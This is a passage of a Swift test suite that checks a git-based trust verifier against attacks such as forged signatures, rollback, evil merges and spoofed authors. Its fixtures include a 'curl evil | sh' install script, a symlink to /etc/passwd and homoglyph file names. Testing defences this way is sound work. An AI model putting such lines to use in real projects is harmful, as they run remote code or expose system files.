import Foundation
import SFGitMemory
import SFGitRepository
import SFGitTestSupport
import Testing
@testable import SFGitTrust

/// The attack classes of docs/TRUST.md § Attacks and the section that stops each, each refused
/// with its specific outcome.
@Suite("Verifier: attacks")
struct AttackTests {
    /// A store with admin@hq (admin, write) and sf@mikki-bunker (write), both committed.
    static func storeWithWriter(mode: String = "direct") throws -> (StoreBuilder, String) {
        let store = try StoreBuilder(mode: mode)
        try store.setRoles("sf@mikki-bunker", ["write"])
        let base = try store.commit(as: "admin@hq", "add writer")
        return (store, base)
    }

    /// The raw commit object text of `commit` with its gpgsig header (if any) replaced by `signature`.
    static func commitText(_ store: StoreBuilder, _ commit: String, signature: String?) throws -> String {
        let raw = try store.git.run(["cat-file", "commit", commit]) + "\n"
        var header: [String] = []
        var lines = raw.components(separatedBy: "\n")
        let blank = lines.firstIndex(of: "")!
        var skipping = false
        for line in lines[..<blank] {
            if line.hasPrefix("gpgsig ") { skipping = true; continue }
            if skipping && line.hasPrefix(" ") { continue }
            skipping = false
            header.append(line)
        }
        if let signature {
            let sigLines = signature.components(separatedBy: "\n")
            header.append("gpgsig " + sigLines[0])
            header += sigLines.dropFirst().map { " " + $0 }
        }
        lines.replaceSubrange(..<blank, with: header)
        return lines.joined(separator: "\n").replacingOccurrences(of: "\n\n\n", with: "\n\n")
    }

    /// The armored gpgsig of a commit.
    static func gpgsig(_ store: StoreBuilder, _ commit: String) throws -> String {
        let raw = try store.git.run(["cat-file", "commit", commit])
        var out: [String] = []
        for line in raw.components(separatedBy: "\n") {
            if line.hasPrefix("gpgsig ") { out.append(String(line.dropFirst(7))) } else if !out.isEmpty, line.hasPrefix(" ") { out.append(String(line.dropFirst())) } else if !out.isEmpty { break }
        }
        return out.joined(separator: "\n")
    }

    static func writeCommitObject(_ store: StoreBuilder, _ text: String) throws -> String {
        try store.git.run(["hash-object", "-t", "commit", "-w", "--stdin"], stdin: Data(text.utf8))
    }

    static func moveMain(_ store: StoreBuilder, to commit: String) throws {
        try store.git.run(["update-ref", "refs/heads/main", commit])
        try store.git.run(["reset", "-q", "--hard", commit])
    }

    // MARK: - Signatures and keys

    @Test("unsigned commit")
    func unsignedCommit() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.addMemory(by: "sf@mikki-bunker")
        let commit = try store.commitUnsigned()
        let result = try verify(store, from: base)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .unsigned)
        #expect(result.verifiedTip?.hex == base)
        #expect(result.accepted.isEmpty)
    }

    @Test("junk commits piled on top: a sync's verification stops at the first refused chain commit, with the same verified tip and accepted memories")
    func junkOnTopStopsEarly() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.addMemory(by: "sf@mikki-bunker")
        let good = try store.commit(as: "sf@mikki-bunker", "a memory")
        let firstJunk = try store.commitUnsigned("junk 0")
        for index in 1..<40 { _ = try store.commitUnsigned("junk \(index)") }
        let everything = try verify(store, from: base)
        #expect(everything.outcomes.count == 41)  // `verify` reports every commit

        let repository = try Repository.open(store.gitDirectory)
        let introduction = Introduction(commit: ObjectID(hex: store.introduction)!, signer: store.introductionSigner)
        let stopping = try Verifier(repository: repository, introduction: introduction, options: .init(stopAtRefusedChainCommit: true))
            .verify(from: ObjectID(hex: base)!, to: try repository.resolveCommit("HEAD"))
        #expect(stopping.outcomes.count == 2, "\(stopping.outcomes.map(\.status))")
        #expect(stopping.blocked?.commit.hex == firstJunk)
        #expect(stopping.blocked?.status == .unsigned)
        #expect(stopping.verifiedTip?.hex == good)
        #expect(stopping.verifiedTip == everything.verifiedTip)
        #expect(stopping.accepted.map(\.path) == everything.accepted.map(\.path) && stopping.accepted.count == 1)
    }

    @Test("unknown key")
    func unknownKey() throws {
        let (store, base) = try Self.storeWithWriter()
        let stranger = try store.key(for: "mallory@evil")
        try store.addMemory(by: "mallory@evil")
        try store.git.run(["add", "-A"])
        let commit = try store.git.signedCommit("hello", key: stranger.privatePath)
        let result = try verify(store, from: base)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .unknownKey)
        #expect(result.blocked?.key == stranger.fingerprint)
    }

    @Test("self-authorizing key: a commit that adds its own key is judged by its parent's list")
    func selfAuthorizingKey() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.setRoles("mallory@evil", ["admin", "write"])  // writes mallory's key into the trust files
        let commit = try store.commit(as: "mallory@evil", "trust me")
        let result = try verify(store, from: base)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .unknownKey)
    }

    @Test("policy edited by a non-admin")
    func policyEditedByWriter() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.setRoles("sf@mikki-bunker", ["admin", "write"])
        let commit = try store.commit(as: "sf@mikki-bunker", "promote myself")
        let result = try verify(store, from: base)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .unauthorized)
        #expect(result.blocked?.principal == "sf@mikki-bunker")
    }

    @Test("an oversized trust file is refused without being parsed")
    func oversizedPolicy() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.write(".sfgit/policy.yaml", store.policyText() + "# " + String(repeating: "x", count: 300 * 1024) + "\n")
        let commit = try store.commit(as: "admin@hq", "huge policy")
        try store.addMemory(by: "sf@mikki-bunker")
        let after = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: base)
        #expect(result.status(of: commit) == .forbiddenChange)
        #expect(result.blocked?.reason.contains("larger than 262144 bytes") == true)
        #expect(result.status(of: after) == .untrustedParent)
    }

    @Test("an admin commit listing a key whose principal has no role leaves an invalid trust state")
    func keyWithoutRole() throws {
        let (store, base) = try Self.storeWithWriter()
        let stray = try store.key(for: "ghost@nowhere")
        try store.write(".sfgit/allowed_signers", store.allowedSignersText() + "ghost@nowhere namespaces=\"git\" \(stray.publicKey)\n")
        let commit = try store.commit(as: "admin@hq", "a key without a role")
        let result = try verify(store, from: base)
        #expect(result.status(of: commit) == .forbiddenChange)
        #expect(result.blocked?.reason.contains("principal 'ghost@nowhere' has a key but no entry (or no role)") == true)
    }

    @Test("policy deleted, even by an admin")
    func policyDeleted() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.git.run(["rm", "-q", ".sfgit/policy.yaml"])
        let commit = try store.commit(as: "admin@hq", "delete policy")
        let result = try verify(store, from: base)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .forbiddenChange)
        #expect(result.blocked?.reason.contains("never deleted") == true)
    }

    @Test("signature moved to another payload")
    func signatureMoved() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.addMemory(by: "sf@mikki-bunker", title: "the signed one")
        let signed = try store.commit(as: "sf@mikki-bunker")
        try Self.moveMain(store, to: base)
        try store.addMemory(by: "sf@mikki-bunker", title: "the forged one")
        let unsigned = try store.commitUnsigned("forged")
        let forged = try Self.writeCommitObject(store, try Self.commitText(store, unsigned, signature: try Self.gpgsig(store, signed)))
        let result = try verify(store, from: base, to: forged)
        #expect(result.blocked?.commit.hex == forged)
        #expect(result.blocked?.status == .badSignature)
        #expect(result.blocked?.reason.contains("does not verify") == true)
    }

    @Test("signature made in another namespace")
    func otherNamespace() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.addMemory(by: "sf@mikki-bunker")
        let unsigned = try store.commitUnsigned("to be signed as a file")
        let payload = try Self.commitText(store, unsigned, signature: nil)
        let signed = try ProcessRunner.run("ssh-keygen", ["-q", "-Y", "sign", "-n", "file", "-f", store.keys["sf@mikki-bunker"]!.privatePath], stdin: Data(payload.utf8))
        var armor = signed.stdout
        while armor.hasSuffix("\n") { armor.removeLast() }
        let commit = try Self.writeCommitObject(store, try Self.commitText(store, unsigned, signature: armor))
        let result = try verify(store, from: base, to: commit)
        #expect(result.blocked?.status == .badSignature)
        #expect(result.blocked?.reason.contains("namespace 'file'") == true)
    }

    @Test("two gpgsig headers")
    func twoSignatureHeaders() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.addMemory(by: "sf@mikki-bunker")
        let signed = try store.commit(as: "sf@mikki-bunker")
        let sig = try Self.gpgsig(store, signed)
        var text = try Self.commitText(store, signed, signature: sig)
        let extra = "gpgsig " + sig.components(separatedBy: "\n").joined(separator: "\n ") + "\n"
        text = text.replacingOccurrences(of: "\ngpgsig ", with: "\n" + extra + "gpgsig ")
        let doubled = try Self.writeCommitObject(store, text)
        let result = try verify(store, from: base, to: doubled)
        #expect(result.blocked?.status == .badSignature)
    }

    // MARK: - History

    @Test("rollback")
    func rollback() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.addMemory(by: "sf@mikki-bunker")
        let newer = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: newer, to: base)
        #expect(result.blocked?.status == .rollback)
        #expect(result.verifiedTip?.hex == newer)
        #expect(result.outcomes.count == 1)
    }

    @Test("rewritten history")
    func rewrittenHistory() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.addMemory(by: "sf@mikki-bunker")
        let original = try store.commit(as: "sf@mikki-bunker")
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["sf@mikki-bunker"]!.privatePath)", "commit", "-q", "-S", "--amend", "-m", "rewritten"])
        let rewritten = try store.git.run(["rev-parse", "HEAD"])
        let result = try verify(store, from: original, to: rewritten)
        #expect(result.blocked?.status == .diverged)
        #expect(result.verifiedTip?.hex == original)
        _ = base
    }

    @Test("unrelated history, even one signed by the admin")
    func unrelatedHistory() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.git.run(["checkout", "-q", "--orphan", "other"])
        let other = try store.commit(as: "admin@hq", "a second root")
        #expect(try verify(store, from: base, to: other).blocked?.status == .diverged)
        #expect(try verify(store, from: nil, to: other).blocked?.status == .diverged)
    }

    @Test("a second root brought in by a merge")
    func secondRootThroughMerge() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.git.run(["checkout", "-q", "--orphan", "other"])
        try store.git.run(["rm", "-q", "-rf", "."])
        try store.addMemory(by: "admin@hq")
        let root = try store.commit(as: "admin@hq", "second root")
        try store.git.run(["checkout", "-q", "main"])
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["admin@hq"]!.privatePath)",
                           "merge", "-q", "--no-ff", "--allow-unrelated-histories", "-S", "-m", "merge root", "other"])
        let merge = try store.git.run(["rev-parse", "HEAD"])
        let result = try verify(store, from: base)
        #expect(result.status(of: root) == .malformed)
        #expect(result.status(of: merge) == .untrustedParent)
        #expect(result.verifiedTip?.hex == base)
    }

    @Test("unsigned commit hidden behind a signed merge")
    func unsignedBehindSignedMerge() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.git.run(["checkout", "-q", "-b", "side"])
        try store.addMemory(by: "sf@mikki-bunker")
        let hidden = try store.commitUnsigned("sneaky")
        try store.git.run(["checkout", "-q", "main"])
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["admin@hq"]!.privatePath)",
                           "merge", "-q", "--no-ff", "-S", "-m", "looks fine", "side"])
        let merge = try store.git.run(["rev-parse", "HEAD"])
        let result = try verify(store, from: base)
        #expect(result.status(of: hidden) == .unsigned)
        #expect(result.status(of: merge) == .untrustedParent)
        #expect(result.blocked?.commit.hex == hidden)
        #expect(result.accepted.isEmpty)
    }

    @Test("evil merge: content smuggled into a merge commit")
    func evilMerge() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.git.run(["checkout", "-q", "-b", "side"])
        try store.addMemory(by: "sf@mikki-bunker")
        try store.commit(as: "sf@mikki-bunker")
        try store.git.run(["checkout", "-q", "main"])
        try store.git.run(["merge", "-q", "--no-ff", "--no-commit", "side"])
        try store.write("README.md", "rewritten by the merge\n")
        try store.git.run(["add", "-A"])
        let merge = try store.git.signedCommit("evil merge", key: store.keys["admin@hq"]!.privatePath)
        let result = try verify(store, from: base)
        #expect(result.status(of: merge) == .forbiddenChange)
        #expect(result.outcomes.first { $0.commit.hex == merge }?.reason.contains("clean merge") == true)
    }

    @Test("a merge that combines trust changes from both sides (a writer's key replaced on one, the writer made admin on the other) needs an admin, not a reviewer")
    func mergeCombiningTrustChanges() throws {
        let (store, _) = try Self.storeWithWriter()
        try store.setRoles("rev@desk", ["review"])
        let base = try store.commit(as: "admin@hq", "add a reviewer")
        // Side: an admin replaces the writer's key (still a writer there).
        try store.git.run(["checkout", "-q", "-b", "side"])
        _ = try store.rotateKey(for: "sf@mikki-bunker")
        try store.writeTrustFiles()
        let keySide = try store.commit(as: "admin@hq", "replace sf's key")
        // Main: an admin makes the writer admin, trusting the key it had there.
        try store.git.run(["checkout", "-q", "main"])
        try store.setRoles("sf@mikki-bunker", ["admin", "write"])
        try store.git.run(["checkout", "-q", base, "--", ".sfgit/allowed_signers"])  // the key it had here
        let roleSide = try store.commit(as: "admin@hq", "make sf admin")
        // Merged, the new key would be admin: a trust state neither admin commit signed.
        for (merger, expected) in [("rev@desk", CommitStatus.unauthorized), ("admin@hq", .good)] {
            try store.git.run(["reset", "-q", "--hard", roleSide])
            try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys[merger]!.privatePath)",
                               "merge", "-q", "--no-ff", "-S", "-m", "merge the new key", "side"])
            let merge = try store.git.run(["rev-parse", "HEAD"])
            let result = try verify(store, from: base)
            #expect(result.status(of: keySide) == .good && result.status(of: roleSide) == .good, "\(result.outcomes.map(\.reason))")
            #expect(result.status(of: merge) == expected, "\(merger): \(result.outcomes.first { $0.commit.hex == merge }?.reason ?? "")")
            if expected == .unauthorized {
                #expect(result.outcomes.first { $0.commit.hex == merge }?.reason.contains("trust state no admin signed") == true)
                #expect(result.verifiedTip?.hex == roleSide)
            }
        }
    }

    @Test("a merge signed by a writer")
    func writerMerge() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.git.run(["checkout", "-q", "-b", "side"])
        try store.addMemory(by: "sf@mikki-bunker")
        try store.commit(as: "sf@mikki-bunker")
        try store.git.run(["checkout", "-q", "main"])
        try store.addMemory(by: "sf@mikki-bunker")
        try store.commit(as: "sf@mikki-bunker")
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["sf@mikki-bunker"]!.privatePath)",
                           "merge", "-q", "--no-ff", "-S", "-m", "my own merge", "side"])
        let merge = try store.git.run(["rev-parse", "HEAD"])
        #expect(try verify(store, from: base).status(of: merge) == .unauthorized)
    }

    @Test("retired key on a stale branch")
    func retiredKeyOnStaleBranch() throws {
        let (store, _) = try Self.storeWithWriter()
        let before = try store.git.run(["rev-parse", "HEAD"])
        try store.git.run(["checkout", "-q", "-b", "stale"])
        try store.addMemory(by: "sf@mikki-bunker")
        let stale = try store.commit(as: "sf@mikki-bunker", "written after the key was retired on main")
        try store.git.run(["checkout", "-q", "main"])
        try store.removePrincipal("sf@mikki-bunker")
        let retire = try store.commit(as: "admin@hq", "retire sf")
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["admin@hq"]!.privatePath)",
                           "merge", "-q", "--no-ff", "-S", "-m", "merge stale", "stale"])
        let merge = try store.git.run(["rev-parse", "HEAD"])
        let result = try verify(store, from: before)
        #expect(result.status(of: stale) == .good)  // authentic against its own parent
        #expect(result.status(of: retire) == .good)
        #expect(result.status(of: merge) == .unauthorized)
        #expect(result.outcomes.first { $0.commit.hex == merge }?.reason.contains("is no longer listed there (retired key on a stale branch)") == true)
        #expect(result.verifiedTip?.hex == retire)
    }

    /// README, "Rotating a key": a lone old-key commit after the rotation is `unknown-key`
    /// (VerifierTests.keyRotation); old-key commits on a branch that forked before the rotation
    /// are authentic on their own, and a merge that brings them in, in either parent order, is
    /// `unauthorized` (retired key on a stale branch).
    @Test("a rotated key on a stale branch: its commits are authentic alone, a merge bringing them in is refused in either parent order", arguments: [false, true])
    func rotatedKeyOnStaleBranch(staleFirst: Bool) throws {
        let (store, _) = try Self.storeWithWriter()
        let before = try store.git.run(["rev-parse", "HEAD"])
        try store.git.run(["checkout", "-q", "-b", "stale"])
        try store.addMemory(by: "sf@mikki-bunker")
        let stale = try store.commit(as: "sf@mikki-bunker", "signed with the key main is about to replace")
        try store.git.run(["checkout", "-q", "main"])
        _ = try store.rotateKey(for: "sf@mikki-bunker")
        try store.writeTrustFiles()
        let rotation = try store.commit(as: "admin@hq", "rotate sf's key")
        if staleFirst { try store.git.run(["checkout", "-q", "stale"]) }
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["admin@hq"]!.privatePath)",
                           "merge", "-q", "--no-ff", "-S", "-m", "merge", staleFirst ? "main" : "stale"])
        let merge = try store.git.run(["rev-parse", "HEAD"])
        let result = try verify(store, from: before, to: merge)
        #expect(result.status(of: stale) == .good)
        #expect(result.status(of: rotation) == .good)
        #expect(result.status(of: merge) == .unauthorized)
        let reason = result.outcomes.first { $0.commit.hex == merge }?.reason ?? ""
        #expect(reason.contains("(retired key on a stale branch)"), "\(reason)")
    }

    @Test("retired key on a stale branch that a merge takes as its first parent, fast-forwarded onto main", arguments: ["direct", "review"], [false, true])
    func retiredKeyOnStaleFirstParent(mode: String, hostWasSynced: Bool) throws {
        let (store, _) = try Self.storeWithWriter(mode: mode)
        try store.setRoles("rev@desk", ["review"])
        let before = try store.commit(as: "admin@hq", "add a reviewer")
        try store.git.run(["checkout", "-q", "-b", "stale"])
        let path = try store.addMemory(by: "sf@mikki-bunker", title: "from a retired key")
        let stale = try store.commit(as: "sf@mikki-bunker", "written after the key was retired on main")
        try store.git.run(["checkout", "-q", "main"])
        try store.removePrincipal("sf@mikki-bunker")
        let retire = try store.commit(as: "admin@hq", "retire sf")
        // The merge is made on the stale branch (main is its second parent), then main moves there.
        try store.git.run(["checkout", "-q", "stale"])
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["rev@desk"]!.privatePath)",
                           "merge", "-q", "--no-ff", "-S", "-m", "merge main into stale", "main"])
        let merge = try store.git.run(["rev-parse", "HEAD"])
        try store.git.run(["update-ref", "refs/heads/main", merge])
        #expect(try store.git.run(["rev-parse", "\(merge)^1"]) == stale)
        let result = try verify(store, from: hostWasSynced ? retire : before)
        // The tip stays on (or moves to) the branch that retired the key; in review mode a host
        // that had not seen the retirement stops before the writer's commit on the chain.
        #expect(result.verifiedTip?.hex == (mode == "review" && !hostWasSynced ? before : retire))
        #expect(result.blocked != nil)
        let served = try store.git.run(["ls-tree", "-r", "--name-only", result.verifiedTip!.hex])
        #expect(!served.contains(path))
        if mode == "direct" {
            #expect(result.status(of: stale) == .good)  // authentic against its own parent
            #expect(result.status(of: merge) == .unauthorized)
            #expect(result.outcomes.first { $0.commit.hex == merge }?.reason.contains("retired key on a stale branch") == true)
        } else {
            // In review mode the stale writer's commit sits on the first-parent chain itself.
            #expect(result.status(of: stale) == .unauthorized)
        }
    }

    @Test("a writer added on a side branch by an admin, merged in either parent order, is accepted")
    func writerAddedOnSideBranch() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.setRoles("rev@desk", ["review"])
        try store.commit(as: "admin@hq", "add a reviewer")
        let fork = try store.git.run(["rev-parse", "HEAD"])
        for secondParentIsSide in [true, false] {
            try store.git.run(["checkout", "-q", "-B", "side", fork])
            try store.setRoles("new\(secondParentIsSide ? 1 : 2)@host", ["write"])
            try store.commit(as: "admin@hq", "add a writer on a side branch")
            let path = try store.addMemory(by: "new\(secondParentIsSide ? 1 : 2)@host")
            try store.commit(as: "new\(secondParentIsSide ? 1 : 2)@host")
            try store.git.run(["checkout", "-q", "-B", "other", fork])
            try store.addMemory(by: "sf@mikki-bunker")
            try store.commit(as: "sf@mikki-bunker")
            try store.git.run(["checkout", "-q", secondParentIsSide ? "other" : "side"])
            try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["rev@desk"]!.privatePath)",
                               "merge", "-q", "--no-ff", "-S", "-m", "merge", secondParentIsSide ? "side" : "other"])
            let merge = try store.git.run(["rev-parse", "HEAD"])
            let result = try verify(store, from: base, to: merge)
            #expect(result.blocked == nil, "\(result.blocked?.reason ?? "")")
            #expect(result.verifiedTip?.hex == merge)
            #expect(result.accepted.contains { $0.path == path })
        }
    }

    @Test("octopus merge")
    func octopusMerge() throws {
        let (store, base) = try Self.storeWithWriter()
        for branch in ["a", "b"] {
            try store.git.run(["checkout", "-q", "-b", branch, base])
            try store.addMemory(by: "admin@hq")
            try store.commit(as: "admin@hq")
        }
        try store.git.run(["checkout", "-q", "main"])
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["admin@hq"]!.privatePath)",
                           "merge", "-q", "--no-ff", "-S", "-m", "octopus", "a", "b"])
        let merge = try store.git.run(["rev-parse", "HEAD"])
        #expect(try store.git.run(["rev-list", "--parents", "-n", "1", "HEAD"]).split(separator: " ").count == 4)
        #expect(try verify(store, from: base).status(of: merge) == .malformed)
    }

    // MARK: - Identity

    @Test("front-matter author spoofing is quarantined as a provenance mismatch")
    func frontMatterSpoofing() throws {
        let (store, base) = try Self.storeWithWriter()
        let path = try store.addMemory(by: "admin@hq")  // the front matter claims admin@hq…
        let commit = try store.commit(as: "sf@mikki-bunker")  // …but sf signs
        let result = try verify(store, from: base)
        #expect(result.status(of: commit) == .good)
        #expect(result.quarantined.map(\.reason) == [.provenanceMismatch])
        #expect(result.quarantined.first?.path == path)
        #expect(result.accepted.isEmpty)
    }

    @Test("git author header spoofing changes nothing: the key decides")
    func authorHeaderSpoofing() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.setRoles("sf@mikki-bunker", ["admin", "write"])
        try store.git.run(["add", "-A"])
        try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["sf@mikki-bunker"]!.privatePath)",
                           "commit", "-q", "-S", "--author", "admin <admin@hq>", "-m", "I am the admin"])
        let commit = try store.git.run(["rev-parse", "HEAD"])
        let result = try verify(store, from: base)
        #expect(result.status(of: commit) == .unauthorized)
        #expect(result.blocked?.principal == "sf@mikki-bunker")
    }

    // MARK: - Changes

    @Test("modifying an existing memory")
    func modifyMemory() throws {
        let (store, _) = try Self.storeWithWriter()
        let path = try store.addMemory(by: "sf@mikki-bunker")
        let added = try store.commit(as: "sf@mikki-bunker")
        try store.write(path, try String(contentsOfFile: store.workTree + "/" + path, encoding: .utf8) + "extra: edited\n")
        let commit = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: added)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .forbiddenChange)
        #expect(result.blocked?.reason.contains("append-only") == true)
    }

    @Test("deleting an existing memory, even as admin")
    func deleteMemory() throws {
        let (store, _) = try Self.storeWithWriter()
        let path = try store.addMemory(by: "admin@hq")
        let added = try store.commit(as: "admin@hq")
        try store.git.run(["rm", "-q", path])
        let commit = try store.commit(as: "admin@hq")
        let result = try verify(store, from: added)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .forbiddenChange)
    }

    @Test("duplicate ids are quarantined, in one commit and across commits")
    func duplicateIDs() throws {
        let (store, base) = try Self.storeWithWriter()
        let id = store.nextID()
        try store.addMemory(by: "sf@mikki-bunker", id: id, kind: "learning")
        try store.commit(as: "sf@mikki-bunker")
        try store.addMemory(by: "sf@mikki-bunker", id: id, kind: "note")
        try store.commit(as: "sf@mikki-bunker")
        let twin = store.nextID()
        try store.addMemory(by: "sf@mikki-bunker", id: twin, kind: "anti-pattern")
        try store.addMemory(by: "sf@mikki-bunker", id: twin, kind: "learning")
        try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: base)
        #expect(result.isAuthentic)
        #expect(result.quarantined.map(\.reason) == [.duplicateID, .duplicateID])
        #expect(result.quarantined.map(\.path) == [
            MemoryPath(kind: .note, id: id).description, MemoryPath(kind: .learning, id: twin).description,
        ])
    }

    @Test("symlinks, submodules and executable files", arguments: ["symlink", "submodule", "executable"])
    func specialFiles(kind: String) throws {
        let (store, base) = try Self.storeWithWriter()
        let path = MemoryPath(kind: .learning, id: store.nextID()).description
        switch kind {
        case "symlink":
            try FileManager.default.createDirectory(atPath: store.workTree + "/" + (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try FileManager.default.createSymbolicLink(atPath: store.workTree + "/" + path, withDestinationPath: "/etc/passwd")
            try store.git.run(["add", "-A"])
        case "submodule":
            try store.git.run(["update-index", "--add", "--cacheinfo", "160000,\(base),\(path)"])
        default:
            try store.addMemory(by: "sf@mikki-bunker")
            try store.git.run(["add", "-A"])
            let file = try store.git.run(["diff", "--cached", "--name-only"])
            try store.git.run(["update-index", "--chmod=+x", file])
        }
        let commit = try store.git.signedCommit(kind, key: store.keys["sf@mikki-bunker"]!.privatePath)
        let result = try verify(store, from: base)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .forbiddenChange)
    }

    /// A tree with `name` inside `memories/learning/2026/04/` (the month of `MemoryFixtures.id`),
    /// built with `git mktree`, which (unlike `git add`) writes any name.
    static func treeWithName(_ store: StoreBuilder, parent: String, name: String, kindDirectory: String = "learning") throws -> String {
        let blob = try store.git.run(["hash-object", "-w", "--stdin"], stdin: Data("x\n".utf8))
        var tree = try store.git.run(["mktree"], stdin: Data("100644 blob \(blob)\t\(name)\n".utf8))
        for dir in ["04", "2026", kindDirectory] {
            tree = try store.git.run(["mktree"], stdin: Data("040000 tree \(tree)\t\(dir)\n".utf8))
        }
        // Keep the parent's other top-level entries.
        var entries = try store.git.run(["ls-tree", parent]).split(separator: "\n").map(String.init).filter { !$0.hasSuffix("\tmemories") }
        entries.append("040000 tree \(tree)\tmemories")
        return try store.git.run(["mktree"], stdin: Data((entries.joined(separator: "\n") + "\n").utf8))
    }

    /// Each name sits where `MemoryFixtures.id`'s file belongs (`memories/learning/2026/04/`), so
    /// the only rule it can break is the one named: the canonical name there is accepted.
    @Test("dot-dot, .git, case and Unicode twins in paths", arguments: [
        ("..", "malformed"), (".git", "malformed"),
        ("01KP0GDKE0R84P57VFQVC2R1YD.YAML", "is not <ULID>.yaml"), ("01kp0gdke0r84p57vfqvc2r1yd.yaml", "is not <ULID>.yaml"),
        ("01KP0GDKE0R84P57VFQVC2R1YD\u{0430}.yaml", "outside printable ASCII"),  // Cyrillic а appended
        ("\u{041E}1KP0GDKE0R84P57VFQVC2R1YD.yaml", "outside printable ASCII"),  // Cyrillic О for the digit 0
        ("01KP0GDKE0R84P57VFQVC2R1YD.yam\u{217C}", "outside printable ASCII"),  // Roman numeral ⅼ for l
        ("01KP0GDKE0R84P57VFQVC2R1YD.yaml", "accepted"),
    ])
    func hostilePaths(name: String, expected: String) throws {
        let (store, base) = try Self.storeWithWriter()
        let tree = try Self.treeWithName(store, parent: base, name: name)
        let commit = try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["sf@mikki-bunker"]!.privatePath)",
                                        "commit-tree", "-S", "-p", base, "-m", "hostile path", tree])
        let result = try verify(store, from: base, to: commit)
        if expected == "accepted" {
            #expect(result.status(of: commit) == .good, "\(String(describing: result.blocked))")
            return
        }
        #expect(result.blocked?.commit.hex == commit)
        // `..` and `.git` break git's own rules for trees (non-canonical: malformed); the twins
        // are valid git names that the store's path rule forbids.
        if expected == "malformed" {
            #expect(result.blocked?.status == .malformed, "\(String(describing: result.blocked))")
        } else {
            #expect(result.blocked?.status == .forbiddenChange, "\(String(describing: result.blocked))")
            #expect(result.blocked?.reason.contains(expected) == true, "\(String(describing: result.blocked))")
        }
    }

    @Test("a Unicode twin of a kind directory")
    func unicodeTwinKindDirectory() throws {
        let (store, base) = try Self.storeWithWriter()
        let tree = try Self.treeWithName(store, parent: base, name: MemoryFixtures.id + ".yaml", kindDirectory: "le\u{0430}rning")
        let commit = try store.git.run(["-c", "gpg.format=ssh", "-c", "user.signingkey=\(store.keys["sf@mikki-bunker"]!.privatePath)",
                                        "commit-tree", "-S", "-p", base, "-m", "hostile kind", tree])
        let result = try verify(store, from: base, to: commit)
        #expect(result.blocked?.status == .forbiddenChange)
        #expect(result.blocked?.reason.contains("outside printable ASCII") == true, "\(String(describing: result.blocked))")
    }

    @Test("a case twin of a kind directory")
    func caseTwinDirectory() throws {
        let (store, base) = try Self.storeWithWriter()
        let id = store.nextID()
        let path = MemoryPath(kind: .learning, id: id).description.replacingOccurrences(of: "memories/learning", with: "memories/Learning")
        try store.write(path, store.memoryText(id: id, principal: "sf@mikki-bunker"))
        let commit = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: base)
        #expect(result.blocked?.commit.hex == commit)
        #expect(result.blocked?.status == .forbiddenChange)
    }

    @Test("a file outside memories/ and .sfgit/")
    func strayFile() throws {
        let (store, base) = try Self.storeWithWriter()
        try store.write("scripts/install.sh", "curl evil | sh\n")
        let commit = try store.commit(as: "admin@hq")
        #expect(try verify(store, from: base).blocked?.status == .forbiddenChange)
        _ = commit
    }

    // MARK: - Bad files inside authentic commits

    @Test("oversized files are quarantined without stopping the commit")
    func oversized() throws {
        let store = try StoreBuilder()
        store.maxFileBytes = 600
        try store.setRoles("sf@mikki-bunker", ["write"])
        let base = try store.commit(as: "admin@hq")
        let id = store.nextID()
        let big = store.memoryText(id: id, principal: "sf@mikki-bunker", extraBody: "padding: \(String(repeating: "x", count: 700))\n")
        try store.write(MemoryPath(kind: .learning, id: id).description, big)
        let fine = try store.addMemory(by: "sf@mikki-bunker")
        let commit = try store.commit(as: "sf@mikki-bunker")
        let result = try verify(store, from: base)
        #expect(result.status(of: commit) == .good)
        #expect(result.quarantined.map(\.reason) == [.oversize])
        #expect(result.accepted.map(\.path) == [fine])
    }

    @Test("YAML alias bombs, duplicate keys, tags and deep nesting are quarantined as unparsable")
    func hostileYAML() throws {
        let (store, base) = try Self.storeWithWriter()
        let extras = [
